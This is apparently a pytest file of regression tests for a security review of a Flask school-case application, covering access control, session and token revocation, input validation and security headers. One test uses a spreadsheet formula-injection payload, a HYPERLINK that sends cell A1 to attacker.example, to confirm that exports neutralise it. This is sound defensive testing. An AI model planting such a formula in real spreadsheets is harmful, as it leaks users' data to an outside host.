"""Findings of the security review (issue 17), each shown by what a user would notice: a file
downloaded or refused, a record written or not, a session or a token refused."""

from __future__ import annotations

from typing import Any

import sqlalchemy as sa
from flask.testing import FlaskClient

from app.extensions import db
from app.models import Role
from app.models.document import Roadmap
from app.paperwork.generate import generate
from app.stages.roadmaps import roadmap_of
from tests.helpers import hand_in, login, open_test_case

# F1 — a document is seen through the viewer's own case ---------------------------------------


def test_a_school_without_a_case_downloads_none_of_its_municipalitys_acts(
    world: dict[str, Any], client: FlaskClient, make: Any
) -> None:
    case = open_test_case(world["schools"]["a1"])
    act = hand_in(case.obligations[0], world["users"]["municipal_a"])  # municipality A's act
    order = generate(case, "municipal_order", actor=world["users"]["municipal_a"])
    bystander = make.user(Role.SCHOOL, world["schools"]["a2"])  # same municipality, no case
    db.session.commit()

    login(client, bystander)
    assert client.get(f"/documents/{act.document_id}/v/1").status_code == 404
    assert client.get(f"/documents/{order.document_id}/v/1").status_code == 404


def test_a_school_sees_the_act_of_its_own_case_but_not_the_list_of_every_school(
    world: dict[str, Any], client: FlaskClient
) -> None:
    case = open_test_case(world["schools"]["a1"])
    open_test_case(world["schools"]["a2"])
    act = hand_in(case.obligations[0], world["users"]["municipal_a"])
    order = generate(case, "municipal_order", actor=world["users"]["municipal_a"])
    db.session.commit()

    login(client, world["users"]["school_a1"])
    assert client.get(f"/documents/{act.document_id}/v/1").status_code == 200
    # The generated order names every flagged school of the municipality with its director.
    assert client.get(f"/documents/{order.document_id}/v/1").status_code == 404
    page = client.get(f"/cases/{case.id}").text
    assert f"/documents/{order.document_id}/v/1" not in page
    assert f"/documents/{act.document_id}/v/1" in page
    # Its municipality still downloads both.
    client.post("/logout", data={})
    login(client, world["users"]["municipal_a"])
    assert client.get(f"/documents/{order.document_id}/v/1").status_code == 200


def test_a_municipal_roadmap_is_seen_only_by_the_schools_on_its_list(
    world: dict[str, Any], client: FlaskClient, make: Any
) -> None:
    case = open_test_case(world["schools"]["a1"])
    roadmap = roadmap_of(
        world["mun_a"], case.campaign, "objectivity", actor=world["users"]["municipal_a"]
    )
    bystander = make.user(Role.SCHOOL, world["schools"]["a2"])
    db.session.commit()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Roadmap)) >= 1

    login(client, bystander)
    assert client.get(f"/roadmaps/{roadmap.id}").status_code == 404
    client.post("/logout", data={})
    login(client, world["users"]["school_a1"])
    assert client.get(f"/roadmaps/{roadmap.id}").status_code == 200


# F3 — logging out ends the session on the server -----------------------------------------------


def _copy_session(source: FlaskClient, app: Any) -> FlaskClient:
    """Another browser holding a copy of the source's session cookie."""
    copy = app.test_client()
    cookie = source.get_cookie("session")
    assert cookie is not None
    copy.set_cookie("session", cookie.value)
    return copy


def test_a_cookie_copied_before_logout_is_refused_after_it(
    world: dict[str, Any], client: FlaskClient, app: Any
) -> None:
    login(client, world["users"]["ministry"])
    stolen = _copy_session(client, app)
    assert stolen.get("/cases").status_code == 200  # the copy works while the session lasts
    client.post("/logout", data={})
    refused = stolen.get("/cases")
    assert refused.status_code == 302 and refused.headers["Location"].startswith("/login")


def test_a_session_ends_at_its_lifetime_even_when_used(
    world: dict[str, Any], client: FlaskClient, app: Any
) -> None:
    from app.models.user import UserSession

    login(client, world["users"]["ministry"])
    assert client.get("/cases").status_code == 200
    db.session.execute(sa.update(UserSession).values(expires_at=sa.func.current_timestamp()))
    db.session.commit()
    assert client.get("/cases").status_code == 302


# F4 — a password change or reset revokes the tokens and the calendar feed ---------------------


def test_a_token_and_a_feed_stop_working_after_a_password_reset(
    world: dict[str, Any], client: FlaskClient
) -> None:
    from app.accounts import tokens
    from app.accounts import users as accounts
    from app.notices import ics

    person = world["users"]["municipal_a"]
    _token, secret = tokens.create(person, "скрипт")
    feed = ics.issue_token(person)
    db.session.commit()
    bearer = {"Authorization": f"Bearer {secret}"}
    assert client.get("/api/v1/cases", headers=bearer).status_code == 200
    assert client.get(f"/calendar/{feed}.ics").status_code == 200

    accounts.reset_password(person, actor=world["users"]["admin"])
    db.session.commit()
    assert client.get("/api/v1/cases", headers=bearer).status_code == 401
    assert client.get(f"/calendar/{feed}.ics").status_code == 404


def test_changing_ones_password_ends_the_other_sessions_and_tokens(
    world: dict[str, Any], client: FlaskClient, app: Any
) -> None:
    from app.accounts import tokens
    from tests.helpers import TEST_PASSWORD

    person = world["users"]["school_a1"]
    _token, secret = tokens.create(person, "скрипт")
    db.session.commit()
    login(client, person)
    elsewhere = _copy_session(client, app)
    changed = client.post(
        "/profile",
        data={"current": TEST_PASSWORD, "new": "another-long-pass", "repeat": "another-long-pass"},
    )
    assert changed.status_code == 302
    assert client.get("/").status_code == 200  # the browser that changed it stays in
    assert elsewhere.get("/").status_code == 302
    bearer = {"Authorization": f"Bearer {secret}"}
    assert client.get("/api/v1/cases", headers=bearer).status_code == 401


# F6 — a formula from an imported name is exported as text ----------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Отчёт")'


def test_a_formula_in_a_school_name_is_exported_as_text(
    world: dict[str, Any], client: FlaskClient
) -> None:
    import io

    from openpyxl import load_workbook

    world["schools"]["a1"].name = FORMULA
    world["mun_a"].name = "+7 (999) 000-00-00"
    open_test_case(world["schools"]["a1"])
    db.session.commit()
    login(client, world["users"]["ministry"])

    xlsx = client.get("/cases/export?format=xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)

    csv_text = client.get("/cases/export?format=csv").data.decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in csv_text
    assert ";'+7 (999) 000-00-00;" in csv_text

    report = client.get("/dashboard/compliance.xlsx")
    assert report.status_code == 200
    book = load_workbook(io.BytesIO(report.data)).active
    assert not [c for row in book.iter_rows() for c in row if c.data_type == "f"]


# F10 — input no database can store is refused, never a 500 ------------------------------------


def test_a_nul_byte_in_the_login_is_a_clear_refusal(client: FlaskClient) -> None:
    response = client.post("/login", data={"email": "a\x00@example.org", "password": "x"})
    assert response.status_code == 400
    assert "NUL" in response.text


def test_a_nul_byte_in_the_api_query_finds_nothing_instead_of_failing(
    world: dict[str, Any], client: FlaskClient
) -> None:
    from app.accounts import tokens

    open_test_case(world["schools"]["a1"])
    _token, secret = tokens.create(world["users"]["ministry"], "скрипт")
    db.session.commit()
    bearer = {"Authorization": f"Bearer {secret}"}
    response = client.get("/api/v1/cases?q=%00", headers=bearer)
    assert response.status_code == 200  # no stored text holds a NUL: it narrows nothing
    assert response.json == client.get("/api/v1/cases", headers=bearer).json


def test_an_over_long_text_changes_nothing_and_says_why(
    world: dict[str, Any], client: FlaskClient
) -> None:
    case = open_test_case(world["schools"]["a1"])
    roadmap = roadmap_of(
        case.school, case.campaign, "objectivity", actor=world["users"]["school_a1"]
    )
    items = len(roadmap.items)
    db.session.commit()
    login(client, world["users"]["school_a1"])
    response = client.post(
        f"/roadmaps/{roadmap.id}/items",
        data={
            "measure": "Педсовет",
            "deadline": "д" * 5000,
            "responsible": "Директор",
            "indicator": "Проведён",
            "status": "planned",
        },
        follow_redirects=True,
    )
    assert response.status_code in (200, 400)
    db.session.expire_all()
    assert len(db.session.get(Roadmap, roadmap.id).items) == items


def test_an_out_of_range_number_is_refused_before_the_database(db_session: Any) -> None:
    import pytest

    from app.dbsetup import check_value
    from app.errors import InvalidInput
    from app.models.case import Case

    with pytest.raises(InvalidInput):
        check_value(Case.__table__.c.support_level, 2**40)
    with pytest.raises(InvalidInput):
        check_value(Roadmap.__table__.c.title, "\x00")


# Security headers -----------------------------------------------------------------------------


def test_every_page_carries_the_security_headers(client: FlaskClient) -> None:
    headers = client.get("/login").headers
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert (
        "'unsafe-inline'"
        not in headers["Content-Security-Policy"].split("script-src")[1].split(";")[0]
    )
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in headers  # development: no HTTPS to insist on


# F8/F9 — a marks file is read once, at upload; small or huge, the case page answers --------------


def _marks(login: str, pupils: int) -> bytes:
    lines = ["Год;Логин ОО;Класс;Код участника;Предмет;Четверть 1;Промежуточная аттестация;ВПР"]
    for n in range(pupils):
        lines.append(f"2023;{login};5А;p{n};Математика;{3 + n % 3};{3 + n % 3};{2 + n % 4}")
    return ("\n".join(lines) + "\n").encode()


def test_a_marks_file_of_one_to_three_rows_leaves_the_case_page_working(
    world: dict[str, Any], client: FlaskClient
) -> None:
    import io

    case = open_test_case(world["schools"]["a1"])
    db.session.commit()
    login(client, world["users"]["school_a1"])
    for pupils in (1, 2, 3):
        upload = client.post(
            f"/cases/{case.id}/data/student_marks",
            data={"file": (io.BytesIO(_marks(case.school.login, pupils)), "marks.csv")},
            content_type="multipart/form-data",
        )
        assert upload.status_code == 302, upload.text
        for user in ("school_a1", "municipal_a", "ministry"):
            viewer = client.application.test_client()
            login(viewer, world["users"][user])
            assert viewer.get(f"/cases/{case.id}").status_code == 200, (pupils, user)


def test_the_case_page_shows_the_stored_figures_without_reading_the_file_again(
    world: dict[str, Any], client: FlaskClient, app: Any
) -> None:
    import io

    from app.documents import storage
    from app.models import DataFigures, DocumentVersion

    case = open_test_case(world["schools"]["a1"])
    db.session.commit()
    login(client, world["users"]["school_a1"])
    upload = client.post(
        f"/cases/{case.id}/data/student_marks",
        data={"file": (io.BytesIO(_marks(case.school.login, 30)), "marks.csv")},
        content_type="multipart/form-data",
    )
    assert upload.status_code == 302
    sha = db.session.scalars(
        sa.select(DocumentVersion.sha256).order_by(DocumentVersion.id.desc())
    ).first()
    assert db.session.get(DataFigures, (sha, "student_marks", case.school.login)) is not None
    # The stored file itself is gone: the page still shows its figures, read at upload.
    with app.app_context():
        path = storage.store().path(sha)  # type: ignore[attr-defined]
    path.unlink()
    page = client.get(f"/cases/{case.id}")
    assert page.status_code == 200
    assert "Математика, 5А" in page.text


# Low — a municipality puts only an active expert of its own register on a commission -----------


def test_an_expert_of_another_register_or_inactive_is_refused(world: dict[str, Any]) -> None:
    import pytest

    from app.errors import InvalidInput
    from app.models.stage import CommissionMember
    from app.stages import recheck

    case = open_test_case(world["schools"]["a1"])
    theirs = recheck.add_expert(
        world["mun_b"],
        world["schools"]["b2"],
        "Эксперт Чужого Района",
        "Математика",
        None,
        actor=world["users"]["municipal_b"],
    )
    retired = recheck.add_expert(
        world["mun_a"],
        world["schools"]["a2"],
        "Бывший Эксперт",
        "Математика",
        None,
        actor=world["users"]["municipal_a"],
    )
    retired.active = False
    for expert in (theirs, retired):
        with pytest.raises(InvalidInput):
            recheck.add_member(case, expert, chair=False, actor=world["users"]["municipal_a"])
    assert db.session.scalar(sa.select(sa.func.count()).select_from(CommissionMember)) == 0


# Low — the store's unreferenced contents and stale temporary files are removed --------------------


def test_the_cleanup_removes_orphans_and_stale_temporary_files_only(
    world: dict[str, Any], app: Any
) -> None:
    import os
    import time

    from app.documents import storage
    from app.documents.cleanup import clean_store

    case = open_test_case(world["schools"]["a1"])
    kept = hand_in(case.obligations[0], world["users"]["municipal_a"])
    db.session.commit()
    store = storage.store()
    orphan_sha = store.put(b"written, then the transaction was killed")
    fresh_sha = store.put(b"written a moment ago, its commit still to come")
    orphan, fresh, kept_path = (
        store.path(orphan_sha),
        store.path(fresh_sha),
        store.path(kept.sha256),
    )
    stale = orphan.parent / ".incoming-abc123"
    stale.write_bytes(b"half a file")
    day_ago = time.time() - 2 * 86400
    for path in (orphan, stale, kept_path):
        os.utime(path, (day_ago, day_ago))

    cleaned = clean_store()

    assert (cleaned.orphans, cleaned.temporary) == (1, 1)
    assert not orphan.exists() and not stale.exists()
    assert kept_path.exists() and fresh.exists()


# Low — a preview is kept in the database: another app server confirms it ---------------------------


def test_a_flag_list_previewed_on_one_server_is_confirmed_on_another(
    world: dict[str, Any], client: FlaskClient, app: Any, tmp_path: Any
) -> None:
    import io
    import re

    from app.models import Case, UploadStash

    login(client, world["users"]["ministry"])
    text = "Год;Логин;Муниципалитет;ОО;4 РУ;Количество маркеров\n2024;edu123456;Р;Ш;1;1\n"
    preview = client.post(
        "/flags/import",
        data={"file": (io.BytesIO(text.encode()), "l.csv"), "preview": "1"},
        content_type="multipart/form-data",
    )
    token = re.search(r'name="token" value="([0-9a-f]+)"', preview.text).group(1)
    assert db.session.get(UploadStash, token) is not None
    # The next request lands on a server with an instance folder of its own.
    saved, app.instance_path = app.instance_path, str(tmp_path)
    try:
        done = client.post("/flags/import", data={"token": token, "confirm": "1"})
    finally:
        app.instance_path = saved
    assert done.status_code == 200
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Case)) == 1
    db.session.expire_all()
    assert db.session.get(UploadStash, token) is None
